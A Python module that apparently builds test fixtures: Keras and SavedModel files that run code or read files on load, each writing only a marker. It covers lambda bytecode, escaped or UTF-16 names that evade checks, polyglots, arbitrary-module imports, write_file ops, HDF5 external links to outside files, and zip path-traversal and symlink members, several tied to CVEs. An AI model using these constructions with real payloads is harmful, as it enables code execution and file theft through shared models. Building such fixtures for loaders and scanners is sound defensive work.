"""Keras files and SavedModels that run something, or read something, when they are loaded.

Each writes the marker that it is given, as the payload a stranger would bring; nothing else.
"""

import io
import json
import zipfile
from pathlib import Path

import h5py
import numpy as np
import tensorflow as tf
import tf_keras
from tf_keras.src.utils import generic_utils


def payload(marker):
    """Bytecode of a function of one argument, as Keras 2 keeps it: code, defaults, closure."""
    code = f"lambda x, *_: (open({str(marker)!r}, 'w').write('ran'), x)[1]"
    return list(generic_utils.func_dump(eval(code)))


def write_h5(path, config, *, version="2.11.0", as_bytes=False, text=None):
    """An .h5 file of a model without weights."""
    text = json.dumps(config) if text is None else text
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = np.bytes_(text.encode()) if as_bytes else text
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        names = [layer["config"]["name"] for layer in config["config"]["layers"]]
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = [name.encode() for name in names]
        for name in names:
            weights.create_group(name).attrs["weight_names"] = np.zeros(0, "S1")
    return path


def weights_file(change=lambda file: None):
    """The bytes of the weights of a model that has none."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file.create_group("layers")
        change(file)
    return content.getvalue()


def write_keras(path, config, *, version="2.15.0", extra=(), weights=None):
    """A .keras file of a model without weights."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        archive.writestr("config.json", config if isinstance(config, bytes) else json.dumps(config))
        archive.writestr("model.weights.h5", weights_file() if weights is None else weights)
        for name, content in extra:
            archive.writestr(name, content)
    return path


def sequential(*layers):
    """The configuration of an old Sequential model with inputs of four numbers."""
    shape = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "x"}
    first = {"class_name": "InputLayer", "config": shape}
    return {"class_name": "Sequential", "config": {"name": "m", "layers": [first, *layers]}}


def sequential3(*layers):
    """The same of Keras 3."""
    config = sequential(*layers)
    config["config"]["layers"][0] = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "x"},
        "registered_name": None,
    }
    built = {"input_shape": [None, 4]}
    return {"module": "keras", "registered_name": None, "build_config": built, **config}


def functional(class_name, layer, node, **extra):
    """An old functional model: an input, and a layer with the inbound node that is given."""
    shape = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "x"}
    layers = [
        {"class_name": "InputLayer", "config": shape, "name": "x", "inbound_nodes": []},
        {
            "class_name": class_name,
            "config": {"name": "f", "trainable": True, "dtype": "float32", **layer},
            "name": "f",
            "inbound_nodes": [node],
            **extra,
        },
    ]
    ends = {"input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0], ["f", 0, 0]]}
    config = {"name": "m", "trainable": True, "layers": layers, **ends}
    return {"class_name": "Functional", "config": config}


def old_lambda(marker, name="f"):
    """A Lambda layer as Keras 2 keeps it."""
    config = {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "function": payload(marker),
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    return {"class_name": "Lambda", "config": config}


def new_lambda(marker):
    """A Lambda layer as Keras 3 keeps it."""
    code, _, _ = payload(marker)
    inner = {"code": code, "defaults": None, "closure": None}
    function = {"class_name": "__lambda__", "config": inner}
    config = {"name": "f", "function": function, "arguments": {}, "output_shape": [4]}
    return {"module": "keras.layers", "class_name": "Lambda", "config": config}


def dense(**config):
    """A layer of Keras 2 whose parts are given."""
    return {"class_name": "Dense", "config": {"name": "f", "units": 4, **config}}


def named_function(module, name):
    """A function as the newer formats keep it."""
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def with_module(layer, module="keras.layers"):
    """The layer as the newer formats keep it."""
    return {"module": module, "registered_name": None, **layer}


# --- files, by what is wrong with them ---


def lambda_h5(folder, marker):
    """CVE-2024-3660, and CVE-2025-9905 in `.h5`."""
    return write_h5(folder / "m.h5", sequential(old_lambda(marker)))


def escaped_lambda(folder, marker):
    config = sequential(old_lambda(marker))
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", config, as_bytes=True, text=text)


def polyglot(folder, marker):
    path = lambda_h5(folder, marker)
    benign = write_keras(folder / "benign.keras", sequential3(), version="3.15.1")
    path.write_bytes(path.read_bytes() + benign.read_bytes())
    benign.unlink()
    return path


def hdf5_named_keras(folder, marker):
    config = sequential(old_lambda(marker))
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.keras", config, as_bytes=True, text=text)


def escaped_lambda_keras(folder, marker):
    text = json.dumps(sequential3(new_lambda(marker))).replace('"Lambda"', '"\\u004cambda"')
    return write_keras(folder / "m.keras", text.encode(), version="3.15.1")


def utf16_lambda_keras(folder, marker):
    text = json.dumps(sequential3(new_lambda(marker)))
    return write_keras(folder / "m.keras", text.encode("utf-16"), version="3.15.1")


def doubled_config(folder, marker):
    path = write_keras(folder / "m.keras", sequential3(), version="3.15.1")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", json.dumps(sequential3(new_lambda(marker))))
    return path


def doubled_key(folder, marker):
    config = json.dumps(sequential(old_lambda(marker)))
    text = config.replace('"Lambda"', '"Dense", "class_name": "\\u004cambda"')
    return write_h5(folder / "m.h5", sequential(old_lambda(marker)), as_bytes=True, text=text)


def lambda_in_time_distributed(folder, marker):
    inner = old_lambda(marker, "inner")
    inner["class_name"] = "Lambda"
    config = {"name": "f", "layer": inner}
    text = json.dumps(sequential({"class_name": "TimeDistributed", "config": config}))
    shape = text.replace("[null, 4]", "[null, 3, 4]").replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", json.loads(shape), as_bytes=True, text=shape)


def lambda_in_a_nested_model(folder, marker):
    inner = sequential(old_lambda(marker))
    inner["config"]["name"] = "inner"
    config = sequential(inner)
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", config, as_bytes=True, text=text)


def _wrapped_cell(kind, key, marker):
    cell = {"class_name": "SimpleRNNCell", "config": {"name": "cell", "units": 4}}
    wrapper = {
        "name": "w",
        "cell": cell,
        key: payload(marker),
        f"{key}_type": "lambda",
        f"{key}_module": "__main__",
    }
    return {
        "class_name": "RNN",
        "config": {"name": "f", "cell": {"class_name": kind, "config": wrapper}},
    }


def residual_wrapper(folder, marker):
    config = sequential(_wrapped_cell("ResidualWrapper", "residual_fn", marker))
    text = json.dumps(config).replace("[null, 4]", "[null, 3, 4]")
    return write_h5(folder / "m.h5", json.loads(text))


def dropout_wrapper(folder, marker):
    layer = _wrapped_cell("DropoutWrapper", "dropout_fn", marker)
    layer["config"]["cell"]["config"].update(
        input_keep_prob=1.0, output_keep_prob=1.0, state_keep_prob=0.5, variational_recurrent=False
    )
    layer["config"]["cell"]["config"]["cell"]["class_name"] = "SimpleRNNCell"
    text = json.dumps(sequential(layer)).replace("[null, 4]", "[null, 3, 4]")
    return write_h5(folder / "m.h5", json.loads(text))


def write_file_h5(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    return write_h5(folder / "m.h5", functional("TFOpLambda", {"function": "io.write_file"}, node))


def write_file_v1(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    config = functional("TFOpLambda", {"function": "compat.v1.io.write_file"}, node)
    return write_h5(folder / "m.h5", config)


def write_file_keras(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    new = {"module": "tf_keras.src.layers.core.tf_op_layer", "registered_name": "TFOpLambda"}
    config = functional("TFOpLambda", {"function": "io.write_file"}, node, **new)
    config["config"]["layers"][0] |= {"module": "keras.layers", "registered_name": None}
    config |= {"module": "keras.src.engine.functional", "registered_name": "Functional"}
    return write_keras(folder / "m.keras", config)


def write_file_while_slicing(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    config = functional("SlicingOpLambda", {"function": "io.write_file"}, node)
    return write_h5(folder / "m.h5", config)


def wrapped_op(folder, marker):
    """As TensorFlow 2.0 to 2.3 kept ops; it reads files when the model is called."""
    node = tf.compat.v1.NodeDef(name="f", op="ReadFile", input=["x"])
    layer = {"node_def": node.SerializeToString().decode(), "constants": {}, "dtype": "string"}
    config = functional("TensorFlowOpLayer", layer, ["x", 0, 0, {}])
    config["config"]["layers"][0]["config"]["dtype"] = "string"
    return write_h5(folder / "m.h5", config)


def class_method(folder, marker):
    saved = folder / "inner"
    written_at_load(saved, marker)
    node = ["_CONSTANT_VALUE", -1, [str(saved)], {"kwargs": {}}]
    layer = {"cls_symbol": "lite.TFLiteConverter", "method_name": "from_saved_model"}
    return write_h5(folder / "m.h5", functional("ClassMethod", layer, node))


def _evil_module(folder, marker):
    (folder / "evil_by_name.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\ndef f(x): return x\nclass Dense: pass\n"
    )


def function_of_a_module(folder, marker):
    _evil_module(folder, marker)
    return write_keras(folder / "m.keras", named_function("evil_by_name", "f"))


def class_of_a_module(folder, marker):
    """CVE-2025-1550."""
    _evil_module(folder, marker)
    config = {"module": "evil_by_name", "class_name": "Dense", "config": {}}
    return write_keras(folder / "m.keras", {"registered_name": None, **config})


def initializer_of_a_module(folder, marker):
    _evil_module(folder, marker)
    zeros = {"class_name": "Dense", "module": "evil_by_name", "config": {}, "registered_name": None}
    return write_h5(folder / "m.h5", sequential(dense(kernel_initializer=zeros)))


def type_spec_of_a_module(folder, marker):
    _evil_module(folder, marker)
    spec = {
        "class_name": "__typespec__",
        "spec_name": "TensorSpec",
        "module": "evil_by_name",
        "config": [],
        "registered_name": None,
    }
    return write_keras(folder / "m.keras", spec)


def name_in_the_registered_name(folder, marker):
    """tf_keras looks that name up as well; found, it is called."""
    model = {
        "class_name": "NoSuchName",
        "module": "keras.src.utils.generic_utils",
        "config": {},
        "registered_name": "func_load",
    }
    return write_keras(folder / "m.keras", model)


def unsafe_switch(folder, marker):
    """CVE-2025-9906."""
    function = named_function("keras.config", "enable_unsafe_deserialization")
    switch = new_lambda(marker)
    switch["config"] |= {"function": function, "name": "switch"}
    config = sequential3(switch, new_lambda(marker))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def downloads(folder, marker):
    """CVE-2025-8747."""
    function = named_function("keras.utils", "get_file")
    config = sequential3(with_module(dense(kernel_initializer=function)))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def vocabulary_file(folder, marker):
    """CVE-2025-12058."""
    secret = folder / "secret.txt"
    secret.write_text("word\n")
    layer = {"class_name": "StringLookup", "config": {"name": "f", "vocabulary": str(secret)}}
    config = sequential(with_module(layer))
    shape = {"batch_input_shape": [None, 4], "dtype": "string", "name": "x"}
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": shape}
    config["config"]["layers"][0] = {"registered_name": None, **first}
    whole = {"module": "keras", "registered_name": None, **config}
    return write_keras(folder / "m.keras", whole)


def vocabulary_file_h5(folder, marker):
    secret = folder / "secret.txt"
    secret.write_text("word\n")
    layer = {"class_name": "StringLookup", "config": {"name": "f", "vocabulary": str(secret)}}
    text = json.dumps(sequential(layer)).replace("float32", "string")
    return write_h5(folder / "m.h5", json.loads(text))


def saved_model_layer(folder, marker):
    """CVE-2026-1462."""
    saved = folder / "inner"
    written_at_load(saved, marker)
    layer = {
        "class_name": "TFSMLayer",
        "config": {"name": "f", "filepath": str(saved), "call_endpoint": "serve"},
    }
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def torch_module(folder, marker):
    layer = {"class_name": "TorchModuleWrapper", "config": {"name": "f", "module": "gASVAA=="}}
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def jax_layer(folder, marker):
    layer = {"class_name": "JaxLayer", "config": {"name": "f", "call_fn": new_lambda(marker)}}
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def _dense_h5(folder, change, place):
    path = folder / "m.h5"
    tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(4, name="f")]).save(path)
    with h5py.File(path, "a") as file:
        group = file["model_weights/f/f"]
        del group["kernel:0"]
        change(group, place)
    return path


def _secret_h5(folder):
    place = folder / "secret.h5"
    with h5py.File(place, "w") as file:
        file["kernel"] = np.ones((4, 4), np.float32)
    return place


def external_link(folder, marker):
    def change(group, place):
        group["kernel:0"] = h5py.ExternalLink(str(place), "/kernel")

    return _dense_h5(folder, change, _secret_h5(folder))


def external_storage(folder, marker):
    """CVE-2026-1669."""
    place = folder / "secret.bin"
    place.write_bytes(bytes(64))

    def change(group, place):
        group.create_dataset("kernel:0", (4, 4), "f4", external=[(str(place), 0, 64)])

    return _dense_h5(folder, change, place)


def virtual_dataset(folder, marker):
    def change(group, place):
        layout = h5py.VirtualLayout((4, 4), "f4")
        layout[:] = h5py.VirtualSource(str(place), "kernel", (4, 4))
        group.create_virtual_dataset("kernel:0", layout)

    return _dense_h5(folder, change, _secret_h5(folder))


def external_link_keras(folder, marker):
    place = _secret_h5(folder)

    def change(file):
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(place), "/kernel")

    config = sequential3(with_module(dense()))
    path = folder / "m.keras"
    return write_keras(path, config, weights=weights_file(change), version="2.15.0")


def member_outside(folder, marker):
    path = folder / "m.keras"
    return write_keras(path, sequential3(), version="3.15.1", extra=[(f"../{marker.name}", "ran")])


def linked_member(folder, marker):
    info = zipfile.ZipInfo("assets")
    info.external_attr = 0o120777 << 16
    path = folder / "m.keras"
    return write_keras(path, sequential3(), version="3.15.1", extra=[(info, "/etc")])


def written_at_load(folder: Path, marker):
    """A SavedModel of TensorFlow 1 whose main op writes a file."""
    graph = tf.Graph()
    with graph.as_default(), tf.compat.v1.Session(graph=graph) as session:
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        y = tf.identity(x, name="y")
        main = tf.io.write_file(str(marker), "ran")
        builder = tf.compat.v1.saved_model.Builder(str(folder))
        signature = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=main
        )
        builder.save()
    return folder


FILES = [
    lambda_h5,
    escaped_lambda,
    polyglot,
    hdf5_named_keras,
    escaped_lambda_keras,
    utf16_lambda_keras,
    doubled_config,
    doubled_key,
    lambda_in_time_distributed,
    lambda_in_a_nested_model,
    residual_wrapper,
    dropout_wrapper,
    write_file_h5,
    write_file_v1,
    write_file_keras,
    write_file_while_slicing,
    wrapped_op,
    class_method,
    function_of_a_module,
    class_of_a_module,
    initializer_of_a_module,
    type_spec_of_a_module,
    name_in_the_registered_name,
    unsafe_switch,
    downloads,
    vocabulary_file,
    vocabulary_file_h5,
    saved_model_layer,
    torch_module,
    jax_layer,
    external_link,
    external_storage,
    virtual_dataset,
    external_link_keras,
    member_outside,
    linked_member,
]
